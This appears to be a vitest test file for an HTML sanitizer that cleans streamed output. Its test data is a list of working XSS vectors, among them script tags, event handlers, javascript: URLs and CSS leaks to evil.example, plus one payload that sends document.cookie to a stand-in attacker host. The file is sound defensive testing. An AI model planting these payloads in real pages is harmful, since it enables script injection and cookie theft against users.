import { describe, expect, it } from 'vitest';
import { makeContext } from '../../../test/helpers/context.js';
import { parseConfig } from '../../config/load.js';
import { createOutputHtmlStage } from '../../pipeline/stages/output-html.js';
import { OutputBuffer } from '../../server/output-buffer.js';
import type { HtmlProfileName } from './types.js';
import { findUnsafeHtml, HTML_MAX_CONSTRUCT_CHARS, openHtmlConstruct, type HtmlSpan } from './stream-sanitize.js';

/** The text with every reported span replaced. */
function apply(text: string, spans: readonly HtmlSpan[]): string {
  let out = '';
  let at = 0;
  for (const span of spans) {
    out += text.slice(at, span.start) + span.replacement;
    at = span.end;
  }
  return out + text.slice(at);
}

const clean = (text: string, profile: HtmlProfileName, allowImageHosts: string[] = []): string =>
  apply(text, findUnsafeHtml(text, profile, { final: true, allowImageHosts }));

/** Markup that runs code or loads content when rendered; none of it may survive any profile. */
const VECTORS = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>',
  '<img src=x onerror=alert(1)>',
  '<img src="a>b" onerror="alert(1)">',
  '<a href="javascript:alert(1)">click</a>',
  '<a href="JaVaScRiPt:alert(1)">click</a>',
  '<a href=" javascript:alert(1)">click</a>',
  '<svg onload=alert(1)><circle/></svg>',
  '<svg><script>alert(1)</script></svg>',
  '<math><mtext><img src=x onerror=alert(1)></mtext></math>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<style>body{background:url(https://evil.example/?leak)}</style>',
  '<b style="background:url(https://evil.example/)">x</b>',
  '<form action=https://evil.example><button formaction=javascript:alert(1)>x</button></form>',
  '<details open ontoggle=alert(1)>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src=https://evil.example/x.swf>',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<base href="https://evil.example/">',
  '<link rel=stylesheet href=https://evil.example/x.css>',
  '<img src="https://evil.example/p.png?d=secret">',
  '<p onmouseover="alert(1)">hover</p>',
  '<!--<script>alert(1)</script>-->',
  '<textarea><script>alert(1)</script></textarea>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<plaintext><script>alert(1)</script>',
  '<a href="https://ok.example" onclick="alert(1)">ok</a>',
  '<video><source onerror="alert(1)"></video>',
];

const DANGER = /<\s*(script|svg|math|iframe|style|form|button|object|embed|meta|base|link|details|video|source|textarea|noscript|plaintext)\b|\son\w+\s*=|javascript:|evil\.example/iu;

describe('findUnsafeHtml', () => {
  it.each(['strict', 'basic', 'rich'] as const)('leaves nothing that runs code or loads content under %s', (profile) => {
    for (const vector of VECTORS) {
      const out = clean(`before ${vector} after`, profile);
      expect(out, vector).not.toMatch(DANGER);
      expect(out.startsWith('before ')).toBe(true);
      // Only <plaintext> swallows the rest of the document, as it does in a browser.
      expect(out.endsWith(' after'), vector).toBe(!vector.startsWith('<plaintext>'));
      // What is left is already clean: a second pass finds nothing.
      expect(findUnsafeHtml(out, profile, { final: true }), vector).toEqual([]);
    }
  });

  it('keeps the markup a profile allows and rewrites its attributes', () => {
    const text = '<p>Use <b class="x">bold</b>, <a href="https://docs.example/a" target="_blank">docs</a> and <h1>T</h1></p>';
    expect(clean(text, 'strict')).toBe('Use bold, docs and T');
    expect(clean(text, 'basic')).toBe('<p>Use <b>bold</b>, docs and T</p>');
    expect(clean(text, 'rich')).toBe('<p>Use <b>bold</b>, <a href="https://docs.example/a" rel="noopener noreferrer nofollow">docs</a> and <h1>T</h1></p>');
  });

  it('keeps images only from allowed https hosts', () => {
    const text = '<img src="https://img.example/a.png" alt="a"><img src="https://other.example/b.png">';
    expect(clean(text, 'rich', ['img.example'])).toBe('<img src="https://img.example/a.png" alt="a" />');
    expect(clean(text, 'rich')).toBe('');
  });

  it('reports nothing for text and markup that is already safe', () => {
    expect(findUnsafeHtml('if a < b && c > d then <3', 'strict', { final: true })).toEqual([]);
    expect(findUnsafeHtml('<p>one <b>two</b></p><ul><li>x</li></ul>', 'basic', { final: true })).toEqual([]);
  });

  it('names what it removed', () => {
    const rules = findUnsafeHtml('<script>x</script><b onclick=y>z</b><!-- c --><!DOCTYPE html><iframe>', 'basic', { final: true }).map((s) => s.rule);
    expect(rules).toEqual(['html:element:script', 'html:attributes:b', 'html:comment', 'html:declaration', 'html:element:iframe']);
  });

  it('waits for a construct still being written, and removes it when the text ends', () => {
    for (const partial of ['<', '<i', '</', '<!', '<!-', '<!-- c', '<img src="x', '<a href="a>b', '<script>alert(1)', '<script>x</scr']) {
      const text = `ok ${partial}`;
      expect(openHtmlConstruct(text), partial).toBe(3);
      expect(findUnsafeHtml(text, 'basic'), partial).toEqual([]);
      expect(clean(text, 'basic'), partial).toBe('ok ');
    }
    expect(openHtmlConstruct('ok <b>x</b> a < b')).toBe(-1);
  });

  it('does not hold a construct longer than HTML_MAX_CONSTRUCT_CHARS: its start is removed instead', () => {
    const text = `ok <script>${'x'.repeat(HTML_MAX_CONSTRUCT_CHARS)}`;
    expect(findUnsafeHtml(text, 'basic')).toEqual([{ start: 3, end: text.length, rule: 'html:element:script', replacement: '' }]);
  });

  it('finishes on 100 KB of pathological input', () => {
    const inputs = ['<'.repeat(100_000), '<a '.repeat(33_000), '<!--'.repeat(25_000), '<script>'.repeat(12_500), '<b>'.repeat(33_000), '<x a="'.repeat(16_000), '</'.repeat(50_000)];
    for (const input of inputs) {
      const out = clean(input, 'basic');
      expect(out).not.toMatch(/<script|<a /u);
    }
  });
});

describe('output-html stage on a stream', () => {
  const config = parseConfig({ environments: { dev: { output: { html: { action: 'sanitize', profile: 'basic' } } } } });
  const stage = createOutputHtmlStage(config);

  /** What a client would see, with the text streamed in the given pieces. */
  function streamed(chunks: readonly string[]): string {
    const inspector = stage.open(makeContext({ environment: 'dev' }));
    const scanner = inspector?.scanner;
    if (!scanner) throw new Error('the stage did not open');
    const buffer = new OutputBuffer<number>([scanner], 1_024);
    let seen = '';
    const take = (r: ReturnType<typeof buffer.push>): void => {
      if (r.type === 'blocked') throw new Error('blocked');
      for (const item of r.items) seen += item.texts ? item.texts.join('') : chunks[item.payload]!;
    };
    for (const [i, chunk] of chunks.entries()) take(buffer.push(i, [{ channel: 'content', index: 0, text: chunk }]));
    take(buffer.flush());
    return seen;
  }

  it('gives the same result however the text is split into two or three pieces', () => {
    const text = `Intro ${'words and more words '.repeat(3)}<b onclick="steal()">bold</b> then <script>fetch("https://evil.example/?"+document.cookie)</script> and <img src=x onerror=alert(1)> end <!-- hidden --> done.`;
    const expected = clean(text, 'basic');
    expect(expected).not.toMatch(DANGER);
    for (let i = 1; i < text.length; i++) {
      expect(streamed([text.slice(0, i), text.slice(i)]), `split at ${String(i)}`).toBe(expected);
    }
    for (let i = 1; i < text.length; i += 7) {
      for (let j = i + 1; j < text.length; j += 5) {
        expect(streamed([text.slice(0, i), text.slice(i, j), text.slice(j)]), `split at ${String(i)},${String(j)}`).toBe(expected);
      }
    }
  });

  it('is closed when the policy is off', () => {
    const off = createOutputHtmlStage(parseConfig({ environments: { dev: {} } }));
    expect(off.open(makeContext({ environment: 'dev' }))).toBeUndefined();
  });
});
